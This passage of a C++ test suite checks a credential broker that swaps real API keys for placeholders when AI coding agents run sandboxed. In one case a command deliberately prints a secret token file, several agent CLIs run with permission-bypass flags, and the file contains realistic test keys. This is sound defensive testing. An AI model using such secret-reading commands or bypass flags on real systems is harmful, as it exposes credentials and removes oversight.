                        "--env", "HALF_B=" + kGithubSecret.substr(20), "--", "sh", "-c", script},
                       resolve());
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  const std::string ph = field(r.out, "placeholder");
  ASSERT_EQ(ph.size(), kGithubSecret.size()) << r.out;
  EXPECT_NE(ph, kGithubSecret);
  // gh reads an Enterprise host's token from GH_ENTERPRISE_TOKEN: the same placeholder.
  EXPECT_EQ(field(r.out, "enterprise"), ph) << r.out;

  // gh api: the server answered, so it received the secret.
  EXPECT_EQ(field(r.out, "user"), "0") << slurp(folder_.work() / "user.err");
  EXPECT_TRUE(contains(slurp(folder_.work() / "user.out"), "\"login\": \"agent-bot\""))
      << slurp(folder_.work() / "user.out");
  EXPECT_EQ(field(r.out, "repo"), "0") << slurp(folder_.work() / "repo.err");
  EXPECT_TRUE(contains(slurp(folder_.work() / "repo.out"), "\"full_name\": \"o/r\""))
      << slurp(folder_.work() / "repo.out");
  // gh auth status: logged in to the Enterprise host, with the token from the variable.
  const std::string status = slurp(folder_.work() / "status.out");
  EXPECT_EQ(field(r.out, "status"), "0") << status;
  EXPECT_TRUE(contains(status, "Logged in to bound.test:" + p + " as agent-bot (GH_ENTERPRISE_TOKEN)"))
      << status;
  // What gh sent, by its own trace: its Enterprise API, the token scheme (the
  // value hidden by gh itself).
  const std::string debug = slurp(folder_.work() / "debug.err");
  EXPECT_EQ(field(r.out, "debug"), "0") << debug;
  EXPECT_TRUE(contains(debug, "Request to https://bound.test:" + p + "/api/v3/user")) << debug;
  EXPECT_TRUE(contains(debug, "Authorization: token ")) << debug;
  for (const std::string path : {"/api/v3/user", "/api/v3/repos/o/r", "/api/v3/", "/api/graphql"}) {
    bool with_secret = false;
    for (const auto& req : upstream_->requests())
      if (req.value("path", "") == path)
        for (const auto& h : req["headers"])
          with_secret |= h[0] == "Authorization" && h[1] == "token " + kGithubSecret;
    EXPECT_TRUE(with_secret) << path << " reached the server with the secret";
  }
  EXPECT_FALSE(server_saw(ph)) << "the server never sees the placeholder";

  // Never the secret: the environment, /proc, the files the run can read,
  // gh's output and the run's.
  EXPECT_TRUE(contains(slurp(folder_.work() / "env.dump"), "GH_ENTERPRISE_TOKEN=" + ph));
  EXPECT_FALSE(contains(slurp(folder_.work() / "env.dump"), kGithubSecret));
  EXPECT_FALSE(contains(slurp(folder_.work() / "proc.dump"), kGithubSecret));
  EXPECT_NE(field(r.out, "searched"), "0") << "grep found the secret";
  EXPECT_EQ(slurp(folder_.work() / "secret.files"), "") << "files the run can read that hold the secret";
  EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));
  EXPECT_EQ(files_holding(folder_.work(), kGithubSecret), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.latest_run(), kGithubSecret), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.root() / "runtime", kGithubSecret), std::vector<std::string>{});
  EXPECT_TRUE(contains(slurp(agent / "gh" / "hosts.yml"), kGithubSecret)) << "the store itself is unchanged";
  const auto requests = json_lines(folder_.latest_run() / "requests.jsonl");
  bool swapped = false;
  for (const auto& l : requests)
    swapped |= l.value("host", "") == "bound.test" && l.value("credentials", "") == "github";
  EXPECT_TRUE(swapped) << slurp(folder_.latest_run() / "requests.jsonl");
}

TEST_F(BrokerRun, BadSecretsAndRulesStopTheRunWithTheReason) {
  const fs::path token = folder_.secrets() / "token";
  write_file(token, kGithubSecret + "\n", 0600);
  struct Case {
    std::string name, yaml, says;
    bool recorded;  // refused in the run's record (a secret), or before it (a rule)
  };
  const std::vector<Case> cases = {
      {"unreachable command",
       "credentials:\n  c:\n    secret: {command: [/nonexistent/pass, show, x]}\n    hosts: [bound.test]\n",
       "credential \"c\"", true},
      {"expired",
       "credentials:\n  c:\n    secret: {file: " + token.string() +
           "}\n    hosts: [bound.test]\n    expires: 2020-01-01\n",
       "expired", true},
      {"mis-shaped",
       "credentials:\n  c:\n    secret: {file: " + token.string() +
           "}\n    hosts: [bound.test]\n    shape: anthropic-key\n",
       "not shaped like a anthropic-key", true},
      // A command that prints the secret (and complains) but fails: refused, the secret never quoted.
      {"failing command",
       "credentials:\n  c:\n    secret: {command: [sh, -c, \"cat " + token.string() + "; cat " +
           token.string() + " >&2; exit 3\"]}\n    hosts: [bound.test]\n",
       "exit status 3", true},
      {"unknown host",
       "credentials:\n  c:\n    secret: {file: " + token.string() +
           "}\n    hosts: [bound.test, elsewhere.test]\n",
       "bound to elsewhere.test, which no network rule lets the run reach", false},
      {"rules for an unknown host", "requests:\n  elsewhere.test:\n    - allow: GET /x\n",
       "no network rule lets the run reach elsewhere.test", false},
      {"bad rule", "requests:\n  bound.test:\n    - allow: GTE /x\n", "\"GTE\" is not an HTTP method", false},
      {"bad pattern", "requests:\n  bound.test:\n    - allow: GET x/**\n", "a path pattern starts with '/'",
       false},
      {"bad host", "requests:\n  https://bound.test/:\n    - allow: GET /x\n", "request rules", false},
  };
  for (const auto& c : cases) {
    SCOPED_TRACE(c.name);
    const fs::path profile = write("bad.yaml", c.yaml);
    const auto r =
        run_sh({"--profile", profile.string(), "--allow", "bound.test:" + port(), "--local-servers"},
               "echo the command ran");
    EXPECT_EQ(r.status, 125) << r.out << r.err;
    EXPECT_FALSE(contains(r.out, "the command ran"));
    EXPECT_TRUE(contains(r.err, c.says)) << r.err;
    EXPECT_FALSE(contains(r.out + r.err, kGithubSecret));
    if (c.recorded) {
      const auto record = json::parse(slurp(folder_.latest_run() / "run.json"));
      EXPECT_EQ(record["status"], "setup-failed") << record.dump(2);
      EXPECT_TRUE(contains(record.value("setup_error", ""), c.says)) << record.dump(2);
      // Nothing half-trusted left behind: the private state (and its CA bundle) is gone.
      EXPECT_FALSE(fs::exists(folder_.latest_run() / "requests.jsonl") &&
                   !slurp(folder_.latest_run() / "requests.jsonl").empty());
    }
    // Nothing half-trusted left behind: no CA bundle in the runtime dir (the
    // runs' private state) or anywhere else of the test's.
    std::vector<std::string> left;
    for (const auto& e : fs::recursive_directory_iterator(folder_.root()))
      if (e.path().filename().string().starts_with("run-ca")) left.push_back(e.path().string());
    EXPECT_EQ(left, std::vector<std::string>{});
  }
  EXPECT_EQ(files_holding(folder_.home(), kGithubSecret), std::vector<std::string>{});
}

// Unsealed, nothing confines the command, so no broker is made: the variable
// holds the secret, read and checked as sealed (a bad one still stops the
// run), and the run says that neither the broker nor the rules apply.
TEST_F(BrokerRun, UnsealedTheBrokerIsOffAndSaysSo) {
  const fs::path token = folder_.secrets() / "token";
  write_file(token, kGithubSecret + "\n", 0600);
  const fs::path profile =
      write("unsealed.yaml", "credentials:\n  github:\n    secret: {file: " + token.string() +
                                 "}\n    hosts: [bound.test]\n    env: [GH_TOKEN]\n");
  const auto r = run_sh({"--unsealed", "--profile", profile.string(), "--allow", "bound.test:" + port()},
                        "test \"$GH_TOKEN\" = \"$(cat " + token.string() + ")\" && echo holds-the-secret");
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_TRUE(contains(r.out, "holds-the-secret")) << r.out;
  EXPECT_TRUE(
      contains(r.err, "unsealed: the credential broker is off (the run holds the secrets of github itself)"))
      << r.err;
  EXPECT_FALSE(fs::exists(folder_.latest_run() / "requests.jsonl"));

  const fs::path expired =
      write("expired.yaml", "credentials:\n  github:\n    secret: {file: " + token.string() +
                                "}\n    hosts: [bound.test]\n    expires: 2020-01-01\n");
  const auto bad = run_sh({"--unsealed", "--profile", expired.string(), "--allow", "bound.test:" + port()},
                          "echo the command ran");
  EXPECT_EQ(bad.status, 125) << bad.out << bad.err;
  EXPECT_FALSE(contains(bad.out, "the command ran"));
  EXPECT_TRUE(contains(bad.err, "expired")) << bad.err;
  EXPECT_FALSE(contains(bad.out + bad.err, kGithubSecret));
}

// A plugin's default credential whose key cannot be brokered (a stand-in
// too short to draw a placeholder for, as tests and local model servers
// use): the run holds it, as without a broker, and says so; the run starts.
TEST_F(BrokerRun, APluginsKeyThatCannotBeBrokeredIsHeldAndSaid) {
  const std::string fake = "sk-ant-test-1234";
  const auto r = run_sh({"--harness", "claude-code", "--allow", "api.anthropic.com"},
                        "echo \"key=$ANTHROPIC_API_KEY\"", {"ANTHROPIC_API_KEY=" + fake});
  ASSERT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_EQ(field(r.out, "key"), fake);
  EXPECT_TRUE(contains(r.err, "the credential anthropic-api-key is not brokered")) << r.err;
  EXPECT_TRUE(contains(r.err, "the run holds ANTHROPIC_API_KEY itself")) << r.err;

  // A real-looking key is brokered: the run holds its placeholder.
  const auto b = run_sh({"--harness", "claude-code", "--allow", "api.anthropic.com"},
                        "echo \"key=$ANTHROPIC_API_KEY\"", {"ANTHROPIC_API_KEY=" + kAnthropicSecret});
  ASSERT_EQ(b.status, 0) << b.out << b.err;
  const std::string ph = field(b.out, "key");
  EXPECT_EQ(ph.size(), kAnthropicSecret.size());
  EXPECT_NE(ph, kAnthropicSecret);
  EXPECT_EQ(ph.substr(0, 7), "sk-ant-");
  EXPECT_TRUE(contains(b.err, "brokered credentials (the run holds placeholders): anthropic-api-key"))
      << b.err;
}

// The real harnesses against the scripted model server over HTTPS, each with
// its provider key brokered: the server must get the real key; the run never
// holds it.
struct Harness {
  std::string name;        // plugin
  std::string executable;  // on PATH
};

class RealClientBrokered : public BrokerRun, public ::testing::WithParamInterface<Harness> {};

TEST_P(RealClientBrokered, TheServerGetsTheKeyTheRunHoldsAPlaceholder) {
  const Harness& h = GetParam();
  if (!have(h.executable)) GTEST_SKIP() << h.executable << " is not installed (npm i -g ...)";
  const std::string key =
      h.name == "codex"
          ? "sk-proj-" + std::string("Xr4TQ9vLm2Zp8WbN6cY1sD3fG5hJ7kA0eRuViOtPqS2wE4yU6iK8oL1zMxCnB3vF9gH")
          : kAnthropicSecret;
  std::ofstream(folder_.work() / "edit.txt") << "old line\n";
  ASSERT_EQ(spawn_and_wait({"git", "-C", folder_.work().string(), "init", "-q"}, {}, folder_.root() / "logs")
                .status,
            0);
  const fs::path port_file = folder_.root() / "model.port", creds = folder_.root() / "credentials.jsonl";
  Background server({"python3", std::string(E2E_TEST_DIR) + "/fake_model_server.py", "--port-file",
                     port_file.string(), "--actions", (folder_.root() / "actions.jsonl").string(),
                     "--workdir", folder_.work().string(), "--cert", TestPki::get().server.cert.string(),
                     "--key", TestPki::get().server.key.string(), "--credentials", creds.string()});
  for (int i = 0; i < 200 && !fs::exists(port_file); ++i)
    std::this_thread::sleep_for(std::chrono::milliseconds(50));
  ASSERT_TRUE(fs::exists(port_file)) << "the model server did not start";
  const std::string p = slurp(port_file), base = "https://api.anthropic.test:" + p;

  std::vector<std::string> flags{"--allow", "api.anthropic.test:" + p, "--local-servers", "--allow",
                                 "registry.npmjs.org"};
  std::vector<std::string> env;
  std::vector<std::string> command;
  if (h.name == "claude-code") {
    // ANTHROPIC_BASE_URL names the server: the plugin's credential follows it.
    env = {"ANTHROPIC_BASE_URL=" + base, "ANTHROPIC_API_KEY=" + key,
           "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC=1"};
    command = {"claude",           "-p", "do the scripted task", "--dangerously-skip-permissions", "--model",
               "claude-sonnet-4-5"};
  } else if (h.name == "codex") {
    // A provider of Codex's own, and the plugin's credential amended to its host.
    const fs::path profile =
        write("codex.yaml", "credentials:\n  openai-api-key:\n    hosts: [api.anthropic.test]\n");
    flags.insert(flags.end(), {"--profile", profile.string()});
    env = {"OPENAI_API_KEY=" + key};
    command = {"codex",
               "exec",
               "--skip-git-repo-check",
               "--dangerously-bypass-approvals-and-sandbox",
               "-m",
               "gpt-5",
               "-c",
               "model_provider=fake",
               "-c",
               "model_providers.fake={base_url=\"" + base +
                   "/v1\",env_key=\"OPENAI_API_KEY\",wire_api=\"responses\",name=\"fake\"}",
               "do the scripted task"};
  } else {
    const fs::path profile =
        write("opencode.yaml", "credentials:\n  anthropic-api-key:\n    hosts: [api.anthropic.test]\n");
    flags.insert(flags.end(), {"--profile", profile.string()});
    const json config{{"$schema", "https://opencode.ai/config.json"},
                      {"autoupdate", false},
                      {"share", "disabled"},
                      {"permission", {{"edit", "allow"}, {"bash", "allow"}}},
                      {"provider",
                       {{"fake",
                         {{"npm", "@ai-sdk/anthropic"},
                          {"name", "Fake"},
                          {"options", {{"baseURL", base + "/v1"}, {"apiKey", "{env:ANTHROPIC_API_KEY}"}}},
                          {"models", {{"claude-fake", {{"name", "Claude Fake"}, {"tool_call", true}}}}}}}}},
                      {"model", "fake/claude-fake"}};
    fs::create_directories(folder_.user_home() / ".config/opencode");
    std::ofstream(folder_.user_home() / ".config/opencode/opencode.json") << config.dump(2);
    env = {"ANTHROPIC_API_KEY=" + key, "OPENCODE_DISABLE_MODELS_FETCH=1"};
    command = {"opencode", "run", "--model", "fake/claude-fake", "do the scripted task"};
  }
  std::vector<std::string> args{"run", "--in", folder_.work().string()};
  args.insert(args.end(), flags.begin(), flags.end());
  args.push_back("--");
  args.insert(args.end(), command.begin(), command.end());
  const auto r = folder_.parallex(args, resolve(), env, std::chrono::seconds(400));
  const auto seen = json_lines(creds);
  ASSERT_FALSE(seen.empty()) << "the client never reached the server\n" << r.out << r.err;
  for (const auto& s : seen) {
    const std::string given = s.value("x-api-key", "") + s.value("authorization", "");
    EXPECT_TRUE(contains(given, key)) << "the server got the real key on " << s.dump();
  }
  EXPECT_EQ(r.status, 0) << r.out << r.err;
  EXPECT_TRUE(contains(slurp(folder_.work() / "new.txt"), "created by the fake model"))
      << "the scripted task ran\n"
      << r.out << r.err;
  // Never the key in the run's output, its files, its home or the records.
  EXPECT_FALSE(contains(r.out + r.err, key));
  EXPECT_EQ(files_holding(folder_.work(), key), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.user_home(), key), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.home(), key), std::vector<std::string>{});
  EXPECT_EQ(files_holding(folder_.user_home(), key.substr(key.size() - 20)), std::vector<std::string>{})
      << "not even the tail some clients keep of the key they were given";
}

INSTANTIATE_TEST_SUITE_P(Harnesses, RealClientBrokered,
                         ::testing::Values(Harness{"claude-code", "claude"}, Harness{"codex", "codex"},
                                           Harness{"opencode", "opencode"}),
                         [](const ::testing::TestParamInfo<Harness>& param) {
                           return param.param.executable;
                         });

}  // namespace
}  // namespace px::broker::test
